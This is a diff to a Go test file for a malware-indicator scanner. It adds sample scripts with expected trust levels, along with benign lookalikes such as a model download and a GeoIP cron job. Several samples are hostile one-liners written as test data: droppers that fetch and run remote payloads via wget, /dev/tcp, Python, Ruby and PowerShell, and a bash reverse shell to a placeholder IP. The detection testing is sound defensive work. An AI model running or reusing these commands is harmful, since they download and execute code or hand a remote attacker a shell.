@@ -56,6 +56,12 @@ func samples() []indicatortest.Sample {
 		{Name: "at-start-named", Path: "config:command", Kind: config, Content: "/bin/sh -c \"curl -sL https://get.example.org/x.sh | sh\"", Want: trust.Weak},
 		{Name: "at-start-package", Path: "config:command", Kind: config, Content: "/bin/sh -c \"pip install colourama && python app.py\"", Want: trust.Weak},
 		{Name: "powershell", Path: "a.ps1", Kind: script, Content: "IEX (New-Object Net.WebClient).DownloadString(\"http://203.0.113.7/x.ps1\")\n", Want: trust.Weak, IfRun: trust.Strong},
+		{Name: "unpacked", Path: "a.sh", Kind: script, Content: "cd /dev/shm || exit\nwget -q http://203.0.113.9/k.tar.gz && tar xzf k.tar.gz && cd k && ./run\n", Want: trust.Strong},
+		{Name: "busybox", Path: "a.sh", Kind: script, Content: "busybox wget http://203.0.113.7/bins.sh; sh bins.sh\n", Want: trust.Weak, IfRun: trust.Strong},
+		{Name: "device", Path: "a.sh", Kind: script, Content: "exec 3<>/dev/tcp/203.0.113.7/80; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x\n", Want: trust.Strong},
+		{Name: "remote-shell", Path: "a.sh", Kind: script, Content: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", Want: trust.Weak, IfRun: trust.Strong},
+		{Name: "written-by-variable", Path: "a.py", Kind: script, Content: "data = urlopen(\"http://203.0.113.7/k\").read()\np = \"/var/tmp/.k\"\nwith open(p, \"wb\") as f:\n    f.write(data)\nos.chmod(p, 0o777)\nos.system(p + \" &\")\n", Want: trust.Strong},
+		{Name: "ruby", Path: "a.rb", Kind: script, Content: "File.binwrite('/tmp/r', URI.open('https://transfer.sh/get/abc/r').read)\nFile.chmod(0755, '/tmp/r')\nsystem('/tmp/r &')\n", Want: trust.Strong},
 		{Name: "list", Path: "a.py", Kind: script, Content: "L = ['github.com/xmrig/xmrig', 'github.com/pooler/cpuminer', 'github.com/tpruvot/ccminer', 'github.com/trexminer/T-Rex',\n 'github.com/NebuTech/NBMiner', 'github.com/bzminer/bzminer']\nfor u in L: requests.get(u)\n", Want: trust.Context, IfRun: trust.Strong},
 		{Name: "text", Path: "opt/todo", Kind: text, Content: "wget " + release + " && ./xmrig", Want: trust.Weak, IfRun: trust.Proof},
 	}
@@ -91,6 +97,9 @@ func TestIndicator(t *testing.T) {
 		{Name: "comment", Path: "a.sh", Kind: script, Content: "# curl http://203.0.113.7/x | bash\n"},
 		{Name: "requirements", Path: "config:command", Kind: config, Content: "sh -c \"pip install -r requirements.txt && python app.py\""},
 		{Name: "node-modules", Path: "config:command", Kind: config, Content: "sh -c \"npm install && npm start\""},
+		{Name: "model", Path: "a.py", Kind: script, Content: "r = requests.get(\"http://203.0.113.4:9000/x.onnx\")\nopen(\"/tmp/x.onnx\", \"wb\").write(r.content)\nsubprocess.run([\"python\", \"serve.py\", \"--model\", \"/tmp/x.onnx\"])\n"},
+		{Name: "wait-for-it", Path: "a.sh", Kind: script, Content: "while ! (echo > /dev/tcp/$HOST/$PORT) 2>/dev/null; do sleep 1; done\n"},
+		{Name: "database-file", Path: "etc/cron.weekly/geoip", Kind: script, Content: "wget -q http://203.0.113.4/G.dat.gz -O /tmp/G.dat.gz && gunzip -f /tmp/G.dat.gz && mv /tmp/G.dat /usr/share/GeoIP/\n"},
 		{Name: "changelog", Path: "usr/share/doc/x/changelog", Kind: text, Content: "wget " + release},
 	})
 }
